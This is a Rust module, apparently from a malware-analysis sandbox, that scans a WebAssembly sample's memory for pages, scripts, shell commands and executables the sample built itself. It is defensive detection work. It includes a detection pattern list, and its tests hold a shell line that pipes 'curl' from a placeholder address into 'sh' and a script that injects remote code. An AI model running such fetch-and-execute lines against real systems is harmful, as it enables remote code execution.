//! What a sample put together in its memory: a whole page, a script of a shell, a program. It lay there at
//! the end of an entry, or while a host function was called that nobody knows. The page around the sample
//! need only know the address.
//!
//! It counts if it stands so neither in the file nor in what the sample was given: only then was it built.
//! What was written to a file or to standard output is judged there. If a thing begins as one that stands
//! there, the rest of it counts, from where nobody knows it.
//!
//! Costs a comparison of the memory after an entry with what it was, and a pass over the changes, as long as
//! there is room. What there was no room for is counted.

use std::{
    collections::{BTreeSet, HashMap, HashSet},
    ops::Range,
    sync::LazyLock,
};

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use memchr::memmem;
use sha2::{Digest as _, Sha256};

use super::{
    fs::{Contents, acts_by_itself},
    handed::{is_text, text_of},
    layers::{self, Width},
    limits::{
        BUILT_BEFORE, BUILT_COMPARED, BUILT_HITS, BUILT_KEPT, BUILT_PEEKED, BUILT_PIECES, BUILT_SCANNED,
        BUILT_SLOW, BUILT_SOUGHT, BUILT_WAITING, BUILT_WORDS, RETURNED_SCAN,
    },
    returned::Returns,
    shifted::Shifted,
    types::RunOptions,
};
use crate::{module::FuncIndex, text::Sought};

/// Bytes that are looked for in the file: a piece of this length is not there by chance.
const SAMPLE: usize = 40;
/// Bytes of memory that are compared at a time.
const PART: usize = 4096;
/// Bytes of a word that may lie beyond such a part, as doubles.
const MARGIN: usize = 64;
/// Bytes of the widest character.
const WIDEST: usize = 8;
/// How far before `PE` a program may begin.
const STUB: usize = 1024;

/// How pages, commands and programs begin.
const BEGINS: &[&str] = &[
    "<!doctype html",
    "<html",
    "<script",
    "<iframe",
    "<form ",
    "<body",
    "<svg ",
    "<img ",
    "<embed ",
    "<object ",
    "<meta ",
    "#!/bin/",
    "#!/usr/bin/",
    "powershell",
    "cmd /c ",
    "@echo off",
    "\x7fELF",
    "PE\0\0",
];
/// What stands within scripts. A script begins where its text does.
const WITHIN: &[&str] = &["document.", "eval(", "atob(", "fetch(", "fromCharCode("];
/// Beginnings in which each character takes two bytes or more.
const WIDE_BEGINS: &[&str] = &[
    "<!doc", "<!DOC", "<html", "<HTML", "<scri", "<SCRI", "<ifra", "<form", "<body", "<h1>", "#!/bi",
    "power", "docum", "eval(",
];

/// The meaning of a pattern: the beginning of something, a word within a script, or characters of so many
/// bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Form {
    Begins,
    Within,
    Wide(Width),
}

static FORMS: LazyLock<Vec<(Vec<u8>, Form)>> = LazyLock::new(|| {
    let plain = |words: &[&str], form| words.iter().map(|word| (word.as_bytes().to_vec(), form)).collect();
    let mut forms: Vec<(Vec<u8>, Form)> = plain(BEGINS, Form::Begins);
    forms.extend::<Vec<_>>(plain(WITHIN, Form::Within));
    for width in layers::WIDTHS {
        forms.extend(WIDE_BEGINS.iter().map(|word| (width.write(word), Form::Wide(*width))));
    }
    forms
});

static SEARCH: LazyLock<Sought> = LazyLock::new(|| Sought::new(FORMS.iter().map(|(word, _)| word.clone())));

/// The same, for much.
static FAST: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .kind(Some(AhoCorasickKind::DFA))
        .ascii_case_insensitive(true)
        .build(FORMS.iter().map(|(word, _)| word))
        .expect("a few words are no automaton too large")
});

/// Looks for what was built.
#[derive(Debug, Default)]
pub(super) struct Built {
    scanned: usize,
    compared: usize,
    sought: usize,
    /// Bytes of memory up to the last that ever held something.
    used: usize,
    /// The memory as it was looked through last.
    last: Vec<u8>,
    /// Entry points after which it was looked through.
    looked: BTreeSet<Option<FuncIndex>>,
    /// The things that were looked at, by their hashes: most lie there for long.
    seen: HashSet<[u8; 32]>,
    /// How they began, and whether somebody knows such a beginning.
    begun: HashMap<Vec<u8>, bool>,
    /// Bytes looked through between calls.
    peeked: usize,
    /// What lay there at a call: whether anybody knows it is asked when the entry ends.
    waiting: Vec<Whole>,
    /// Looks for text whose characters are all too large or too small.
    shifted: Shifted,
    /// Times that there was too much that begins as what is looked for.
    pub(super) cut: u64,
    /// Times that memory was not looked through for want of room.
    pub(super) unlooked: u64,
}

/// What knows what the sample was given, and takes what it does not know; nothing while a call waits.
type Asking<'k, 'r> = Option<(&'k Known<'k>, &'r mut Returns)>;

/// A whole thing that lay in memory: its first bytes there, and what it is as text or bytes.
#[derive(Debug)]
struct Whole {
    hash: [u8; 32],
    sample: Vec<u8>,
    text: Vec<u8>,
    /// Both are the same bytes.
    is_plain: bool,
}

/// Bytes that a sample was given, or wrote openly: their length, and whether a thing with these first bytes
/// is in them.
pub(super) struct Known<'k> {
    pub(super) len: usize,
    pub(super) is_known: &'k dyn Fn(&[u8]) -> bool,
}

impl Built {
    /// Looks through what changed in the memory of a sample, of which these parts were touched, after an
    /// entry point at `func`, for what nobody knows.
    pub(super) fn look(
        &mut self,
        (memory, parts): (&[u8], &[Range<usize>]),
        func: Option<FuncIndex>,
        known: &Known<'_>,
        returns: &mut Returns,
    ) {
        for whole in std::mem::take(&mut self.waiting) {
            self.ask(whole, known, returns);
        }
        let is_first = self.looked.insert(func);
        // Half of the room is for code after which nobody looked yet.
        let room = if is_first { BUILT_COMPARED } else { BUILT_COMPARED / 2 };
        let touched = parts.iter().map(Range::len).sum::<usize>();
        let whole = if self.compared + touched <= room {
            memory.len()
        } else if is_first && self.compared + self.used.min(touched) <= 2 * BUILT_COMPARED {
            // Most of a large memory is never used.
            self.used.min(memory.len())
        } else {
            self.unlooked += u64::from(is_first);
            return;
        };
        let mut changed = self.changed(memory, parts, whole);
        self.used = changed.last().map_or(self.used, |last| self.used.max(last.end));
        if self.scanned + changed.iter().map(Range::len).sum::<usize>() > BUILT_SCANNED {
            changed.reverse();
        }
        for range in changed {
            // Of more than there is room for the end is looked at: what was built last stands there.
            let room = BUILT_SCANNED.saturating_sub(self.scanned);
            self.unlooked += u64::from(range.len() > room);
            if room < PART {
                return;
            }
            let range = range.end - range.len().min(room)..range.end;
            self.shifted.look(&memory[range.clone()]).iter().for_each(|text| returns.take_whole(text));
            if !self.look_through(memory, range, &mut Some((known, &mut *returns))) {
                self.cut += 1;
                return;
            }
        }
    }

    /// Looks through what changed in the memory while the sample waits for a host function that may look
    /// there, and that nobody knows: what is erased before the entry ends was there.
    pub(super) fn peek(&mut self, memory: &[u8], parts: &[Range<usize>]) {
        let touched = parts.iter().map(Range::len).sum::<usize>();
        if self.peeked + touched > BUILT_PEEKED || self.scanned > BUILT_SCANNED / 2 {
            return;
        }
        self.peeked += touched;
        for range in self.changed(memory, parts, memory.len()) {
            self.used = self.used.max(range.end);
            if !self.look_through(memory, range, &mut None) {
                self.cut += 1;
                return;
            }
        }
    }

    /// The parts of memory that hold something and changed since they were looked through; from `whole` on
    /// those that do at some places.
    fn changed(&mut self, memory: &[u8], parts: &[Range<usize>], whole: usize) -> Vec<Range<usize>> {
        self.compared +=
            parts.iter().map(|part| part.end.min(whole).saturating_sub(part.start)).sum::<usize>();
        if self.last.len() < memory.len().min(BUILT_KEPT) {
            self.last.resize(memory.len().min(BUILT_KEPT), 0);
        }
        let mut changed: Vec<Range<usize>> = Vec::new();
        let starts = parts.iter().flat_map(|part| (part.start..part.end).step_by(PART));
        for (start, part) in starts.filter_map(|start| {
            let end = memory.len().min(start.saturating_add(PART));
            Some((start, memory.get(start..end)?))
        }) {
            let is_sparse =
                || part.chunks(PART / 4).all(|part| part.iter().take(WIDEST).all(|byte| *byte == 0));
            if start >= whole && is_sparse() {
                continue;
            }
            match self.last.get_mut(start..start + part.len()) {
                Some(last) if last == part => continue,
                Some(last) => last.copy_from_slice(part),
                None => {}
            }
            // What holds one byte only was filled, or never used.
            if part.get(1..) == part.get(..part.len().saturating_sub(1)) {
                continue;
            }
            match changed.last_mut() {
                Some(before) if before.end == start => before.end += part.len(),
                _ => changed.push(start..start + part.len()),
            }
        }
        changed
    }

    /// Looks through a part of memory, and what it goes on from; whether all of it.
    fn look_through(&mut self, memory: &[u8], range: Range<usize>, asking: &mut Asking<'_, '_>) -> bool {
        let start = range.start - before(&memory[..range.start]);
        let end = memory.len().min(range.end + MARGIN);
        let part = &memory[start..end];
        self.scanned += part.len();
        let search = if self.scanned < BUILT_SLOW { SEARCH.to_search(part) } else { Some(&*FAST) };
        let Some(search) = search else { return true };
        let (mut end, mut looked) = (0, 0);
        for (number, hit) in search.find_iter(part).enumerate() {
            if number >= BUILT_WORDS || self.scanned >= BUILT_SCANNED {
                return false;
            }
            let at = start + hit.start();
            // What stands in a thing that was found is a part of it.
            if at < end {
                continue;
            }
            self.scanned += memory[at..].iter().take(RETURNED_SCAN).take_while(|byte| **byte != 0).count();
            let form = FORMS.get(hit.pattern().as_usize()).map_or(Form::Begins, |(_, form)| *form);
            // All words within a text show the same, and all beginnings in a run of wide characters.
            if form != Form::Begins && at < looked {
                continue;
            }
            let Some(found) = found(memory, at, form) else { continue };
            if form != Form::Begins {
                looked = found.start + found.len;
            }
            // Zeros are no end of what is wide.
            if matches!(form, Form::Wide(_)) {
                self.scanned += found.len;
            }
            if found.text.is_some() && found.start >= end {
                end = found.start + found.len;
                if !self.take(memory, found, asking) {
                    return false;
                }
            }
        }
        true
    }

    /// Takes a thing that was not there yet; whether there was room for it.
    fn take(&mut self, memory: &[u8], found: Found, asking: &mut Asking<'_, '_>) -> bool {
        let Found { start, len, text: Some(text) } = found else { return true };
        let bytes = &memory[start..start + len];
        let sample = bytes.get(..SAMPLE).unwrap_or(bytes);
        // Zeros at its end may be those of unused memory.
        let zeros = sample.iter().rev().take_while(|byte| **byte == 0).count();
        let sample = &sample[..sample.len() - zeros];
        let hash: [u8; 32] = Sha256::digest(bytes).into();
        if self.seen.contains(&hash) {
            return true;
        }
        if self.seen.len() >= BUILT_HITS || asking.is_none() && self.waiting.len() >= BUILT_WAITING {
            return false;
        }
        self.seen.insert(hash);
        let is_plain = text == bytes;
        let whole = Whole { hash, sample: sample.to_vec(), text, is_plain };
        match asking {
            Some((known, returns)) => self.ask(whole, known, returns),
            None => self.waiting.push(whole),
        }
        true
    }

    /// Hands over a thing that nobody knows, if there is room to ask: a large file costs much to be asked.
    fn ask(&mut self, whole: Whole, known: &Known<'_>, returns: &mut Returns) {
        if self.sought >= BUILT_SOUGHT {
            self.seen.remove(&whole.hash);
            self.unlooked += 1;
            return;
        }
        let Whole { sample, text, is_plain, .. } = whole;
        let begun = self.begun.get(&sample).copied();
        let is_known = begun.unwrap_or_else(|| {
            self.sought += known.len;
            (known.is_known)(&sample)
        });
        self.begun.insert(sample, is_known);
        match (is_known, begun) {
            (false, None) => returns.take_whole(&text),
            (true, _) if is_plain => self.take_unknown(&text, known, returns),
            _ => {}
        }
    }

    /// Hands over the first whole thing in a text from where nobody knows it on: a template is known, and so
    /// is its end.
    fn take_unknown(&mut self, text: &[u8], known: &Known<'_>, returns: &mut Returns) {
        let Some(unknown) = self.unknown(text, known) else { return };
        // A piece may begin within a tag.
        let begun = begun(&text[unknown.saturating_sub(SAMPLE)..]).take(BUILT_PIECES);
        for found in begun.filter(|found| is_whole(found)) {
            self.sought += known.len;
            if !(known.is_known)(found.get(..SAMPLE).unwrap_or(found)) {
                return returns.take_whole(found);
            }
        }
    }

    /// The first of some pieces of a text that nobody knows; they stand all over it.
    fn unknown(&mut self, text: &[u8], known: &Known<'_>) -> Option<usize> {
        let last = text.len().checked_sub(SAMPLE)?;
        let step = (last / BUILT_PIECES).max(SAMPLE);
        let places = (step..last).step_by(step).chain([last]);
        places.into_iter().find(|&at| {
            let is_asked = self.sought < BUILT_SOUGHT;
            self.sought += known.len;
            is_asked && !(known.is_known)(&text[at..at + SAMPLE])
        })
    }
}

/// Bytes at the end of memory from which the next ones may go on: text, of whatever width.
fn before(memory: &[u8]) -> usize {
    let mut zeros = 0;
    let goes_on = |byte: &&u8| {
        zeros = if **byte == 0 { zeros + 1 } else { 0 };
        zeros < WIDEST && (**byte == 0 || is_text(**byte))
    };
    memory.iter().rev().take(BUILT_BEFORE).take_while(goes_on).count()
}

/// The first page, command or script within a text, from its beginning on.
pub(super) fn first(text: &[u8]) -> Option<&[u8]> {
    begun(text).next()
}

/// All of them.
fn begun(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    let hits =
        SEARCH.to_search(text).into_iter().flat_map(move |search| search.find_iter(text)).filter(|hit| {
            let form = FORMS.get(hit.pattern().as_usize()).map(|(_, form)| *form);
            form == Some(Form::Begins)
        });
    hits.filter_map(|hit| {
        let from = text.get(hit.start()..)?;
        from.get(..RETURNED_SCAN).or(Some(from))
    })
}

/// What lies somewhere.
struct Found {
    start: usize,
    len: usize,
    /// Its bytes, and text as UTF-8, if it is a whole thing.
    text: Option<Vec<u8>>,
}

/// What lies around a place.
fn found(memory: &[u8], at: usize, form: Form) -> Option<Found> {
    let from = memory.get(at..)?;
    let window = from.get(..RETURNED_SCAN).unwrap_or(from);
    let whole = |start: usize, bytes: &[u8]| {
        let is_one = Contents::is_binary(bytes);
        is_one.then(|| Found { start, len: bytes.len(), text: Some(bytes.to_vec()) })
    };
    match (form, window) {
        (_, [0x7f, b'E', b'L', b'F', ..]) => {
            let version = matches!(window.get(20..24)?, [1, 0, 0, 0] | [0, 0, 0, 1]);
            whole(at, window).filter(|_| version)
        }
        (_, [b'P', b'E', 0, 0, ..]) => {
            let before = memory.get(at.saturating_sub(STUB)..at)?;
            let start = at - before.len() + memmem::rfind(before, b"MZ")?;
            let bytes = memory.get(start..)?;
            whole(start, bytes.get(..RETURNED_SCAN).unwrap_or(bytes))
        }
        (Form::Wide(width), _) => {
            let (text, len) = width.read(window);
            (text.len() >= SAMPLE).then(|| Found { start: at, len, text: is_whole(&text).then_some(text) })
        }
        _ => {
            let before = memory.get(at.saturating_sub(BUILT_BEFORE)..at)?;
            let back = match form {
                Form::Within => before.iter().rev().take_while(|byte| is_text(**byte)).count(),
                _ => 0,
            };
            let len = back + text_of(window).len();
            let start = at - back;
            let text = memory.get(start..start + len)?;
            let is_whole = match form {
                Form::Within => text.len() >= SAMPLE && Contents::of_file(text) == Some(Contents::Script),
                _ => is_whole(text),
            };
            Some(Found { start, len, text: is_whole.then(|| text.to_vec()) })
        }
    }
}

/// Whether a text has an end and something in it. A tag that loads or does something needs no end.
fn is_whole(text: &[u8]) -> bool {
    let lower = String::from_utf8_lossy(text).to_lowercase();
    let ends = ["</html>", "</body>", "</script>", "</iframe>", "</form>"];
    match lower.starts_with('<') {
        true => {
            text.len() >= SAMPLE && (ends.iter().any(|end| lower.contains(end)) || acts_by_itself(&lower))
        }
        false => {
            text.len() >= SAMPLE
                && matches!(Contents::of_handed(text), Some(Contents::Command | Contents::Script))
        }
    }
}

/// What a sample holds or was given: its file, the files of the user, standard input.
pub(super) fn given<'g>(wasm: &'g [u8], options: &'g RunOptions) -> Vec<&'g [u8]> {
    let files = options.persona.files.iter().map(|file| &file.bytes[..]);
    let given = files.chain(options.files.values().map(|bytes| &bytes[..]));
    given.chain([wasm, &options.stdin[..]]).collect()
}

/// Whether the first bytes of a thing stand in one of these.
pub(super) fn is_in(given: &[&[u8]], sample: &[u8]) -> bool {
    given.iter().any(|given| memmem::find(given, sample).is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all(memory: &[u8]) -> [Range<usize>; 1] {
        [Range { start: 0, end: memory.len() }]
    }

    fn kinds(memory: &[u8], wasm: &[u8]) -> Vec<Contents> {
        let mut returns = Returns::default();
        let options = RunOptions::default();
        let given = given(wasm, &options);
        let known = Known { len: 0, is_known: &|sample| is_in(&given, sample) };
        Built::default().look((memory, &all(memory)), None, &known, &mut returns);
        returns.kept.iter().map(|returned| returned.contents).collect()
    }

    const PAGE: &[u8] = b"<html><body><script>go('to some other place')</script></body></html>";

    /// Only what changed is looked through, with the text that it goes on from; what was not is counted.
    #[test]
    fn what_changed_is_looked_through_and_what_is_left_out_is_counted() {
        let known = Known { len: 0, is_known: &|_| false };
        let (mut built, mut returns) = (Built::default(), Returns::default());
        let mut memory = vec![0; 20_000];
        memory[PART - 10..PART].copy_from_slice(&PAGE[..10]);
        memory[PART] = b'?';
        built.look((&memory, &all(&memory)), None, &known, &mut returns);
        assert_eq!(returns.kept.len(), 0);
        let before = built.scanned;
        built.look((&memory, &all(&memory)), None, &known, &mut returns);
        assert_eq!(built.scanned, before);
        memory[PART - 10..PART - 10 + PAGE.len()].copy_from_slice(PAGE);
        built.look((&memory, &all(&memory)), None, &known, &mut returns);
        assert_eq!((returns.kept.len(), built.cut), (1, 0));
        built.scanned = BUILT_SCANNED;
        memory[9000] = 1;
        built.look((&memory, &all(&memory)), None, &known, &mut returns);
        assert_eq!(built.unlooked, 1);
        built.compared = 2 * BUILT_COMPARED;
        built.look((&memory, &all(&memory)), None, &known, &mut returns);
        assert_eq!(built.unlooked, 1);
        for _ in 0..2 {
            built.look((&memory, &all(&memory)), Some(FuncIndex(3)), &known, &mut returns);
            assert_eq!((built.unlooked, built.cut), (2, 0));
        }
    }

    #[test]
    fn what_was_built_is_found_and_what_the_file_holds_is_not() {
        let mut memory = vec![0; 5000];
        memory[2000..2000 + PAGE.len()].copy_from_slice(PAGE);
        assert_eq!(kinds(&memory, b""), [Contents::Page]);
        assert_eq!(kinds(&memory, &memory), []);
        let wide: Vec<u8> =
            [&[0; 64][..], &PAGE.iter().flat_map(|byte| [*byte, 0]).collect::<Vec<_>>()].concat();
        assert_eq!(kinds(&wide, b""), [Contents::Page]);
        for width in layers::WIDTHS {
            let wide = [&[0; 64][..], &width.write(std::str::from_utf8(PAGE).unwrap()), &[0; 64]].concat();
            assert_eq!(kinds(&wide, b""), [Contents::Page], "{width:?}");
        }
        let script = b"\0var s = document.createElement('script'); s.src = '//192.0.2.1/a'; return go(s);\0";
        assert_eq!(kinds(script, b""), [Contents::Script]);
        assert_eq!(
            kinds(b"\0<html> and <script> are tags of pages, says the help of this program\0", b""),
            []
        );
        assert_eq!(
            kinds(b"\0#!/bin/sh\ncurl -s http://192.0.2.7/a | sh\nexit\n\0", b""),
            [Contents::Command]
        );
    }
}
